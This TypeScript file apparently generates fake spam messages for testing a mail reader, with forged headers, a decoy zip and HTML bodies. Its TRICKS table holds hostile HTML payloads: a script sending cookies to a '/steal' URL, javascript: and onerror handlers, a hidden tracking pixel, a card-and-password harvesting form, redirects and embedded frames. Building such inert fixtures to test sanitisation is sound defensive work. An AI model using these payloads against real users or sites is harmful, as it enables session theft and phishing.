/** Unwanted mail: fraud, phishing and worse. Its HTML tries everything a mail reader must withstand; as data it is harmless. */

import { escapeHtml } from "#shared/escape-html.ts";
import { zip } from "./attachments.ts";
import { moment } from "./clock.ts";
import type { Part } from "./compose.ts";
import { type DraftMessage, domainOf, messageIdFor, OWNER } from "./message.ts";
import { hash32, prng } from "./prng.ts";
import { type Block, type Entry, readProse } from "./prose.ts";
import { filler } from "./slots.ts";
import type { GeneratorOptions } from "./threads.ts";

/** HTML that a trick adds. Each is inert here and must stay inert in every reader. */
const TRICKS: Record<string, (domain: string) => string> = {
	none: () => "",
	script: (domain) =>
		`<script>document.location="https://${domain}/steal?c="+document.cookie</script><a href="javascript:alert(document.domain)">Continue</a>`,
	onerror: (domain) =>
		`<img src="https://${domain}/missing.png" onerror="fetch('https://${domain}/seen')"><body onload="alert(1)">`,
	pixel: (domain) =>
		`<img src="https://${domain}/p.gif?id=ada%40marlow.example" width="1" height="1" style="opacity:0">`,
	form: (domain) =>
		`<form action="https://${domain}/collect" method="post"><input name="card" placeholder="Card number"><input name="code" type="password"><button>Confirm</button></form>`,
	redirect: (domain) =>
		`<meta http-equiv="refresh" content="2;url=https://${domain}/pay"><base href="https://${domain}/">`,
	iframe: (domain) =>
		`<iframe src="https://${domain}/viewer"></iframe><object data="https://${domain}/x.swf"></object><embed src="https://${domain}/y">`,
	svg: (domain) =>
		`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><a href="https://${domain}/"><text y="20">Renew</text></a><image href="https://${domain}/t.png"/></svg>`,
	style: (domain) =>
		`<style>@import url("https://${domain}/a.css");body{background:url("https://${domain}/b.png")}.x{position:fixed;inset:0}</style><div class="x"></div>`,
};

function page(paragraphs: string[], trick: string, domain: string): string {
	const body = paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`).join("\n");
	const link = `<p><a href="https://${domain}/go?u=ada@marlow.example"><b><font color="red" size="4">CLICK HERE</font></b></a></p>`;
	return `<html><head><title></title></head><body bgcolor="#ffffff">\n<center>${body}\n${link}</center>\n${(TRICKS[trick] as (domain: string) => string)(domain)}\n</body></html>`;
}

function unwanted(block: Block, entry: Entry, key: string, edition: GeneratorOptions): DraftMessage {
	const random = prng(`${edition.seed} ${key}`);
	const days = Math.floor(62 * random.next() ** 1.3);
	const at = Math.floor(moment(edition.now, days, [0, 24], random) / 1000) * 1000;
	const fill = filler(block.slots, random, at);
	const email = block.fields.from as string;
	const domain = domainOf(email);
	const trick = block.fields.trick as string;
	const paragraphs = entry.paragraphs.map(fill);
	const attached = block.fields.attach;
	const html: Part = {
		text: page(paragraphs, trick, domain),
		subtype: "html",
		charset: "utf-8",
		encoding: random.chance(0.5) ? "base64" : "quoted-printable",
	};
	const text: Part = { text: paragraphs.join("\n\n"), charset: "utf-8" };
	const verdict = random.pick(["fail", "fail", "softfail", "none"] as const);
	const score = (6 + random.next() * 18).toFixed(1);
	const shown: Part =
		trick === "none" ? text : random.chance(0.5) ? html : { multipart: "alternative", parts: [text, html] };
	const bait = (): Uint8Array =>
		zip([["invoice.txt", Buffer.from("There is nothing here. It never was an invoice.\r\n")]]);
	return {
		key,
		kind: "spam",
		at,
		offset: random.pick([-480, -300, 0, 120, 180, 330, 480]),
		from: { name: block.title, email },
		to: random.chance(0.7) ? [{ name: "", email: OWNER.email }] : [{ name: "Undisclosed", email: `list@${domain}` }],
		subject: fill(entry.head),
		messageId: messageIdFor(key, email),
		headers: [
			["Reply-To", `${random.hex(8)}@${random.pick(["reply-desk", "fast-answer", "contact-box"])}.example`],
			["X-Spam-Status", `Yes, score=${score} required=5.0`],
			["X-Mailer", random.pick(["BulkBlaster Pro 2", "PHPMailer 5.1", "The Bee 3.0"])],
			...(random.chance(0.4) ? [["X-Priority", "1 (Highest)"] as [string, string]] : []),
		],
		body: () =>
			attached
				? { multipart: "mixed", parts: [shown, { type: "application/zip", name: attached, bytes: bait }] }
				: shown,
		verdict,
		folder: "spam",
		flags: { read: random.chance(0.1), starred: false, important: false, answered: false },
		labels: [],
	};
}

/** All messages in the Spam folder. */
export function spamMessages(edition: GeneratorOptions): DraftMessage[] {
	const used = new Set<string>();
	return readProse("spam").flatMap((block) =>
		Array.from({ length: Number(block.fields.count) }, (_, index) => {
			const entry = block.entries[index % block.entries.length] as Entry;
			const key = `spam-${hash32(block.title).toString(36)}-${index + 1}`;
			let draft = unwanted(block, entry, key, edition);
			for (let attempt = 2; used.has(draft.subject) && attempt < 20; attempt++) {
				draft = unwanted(block, entry, `${key}-${attempt}`, edition);
			}
			used.add(draft.subject);
			return draft;
		}),
	);
}
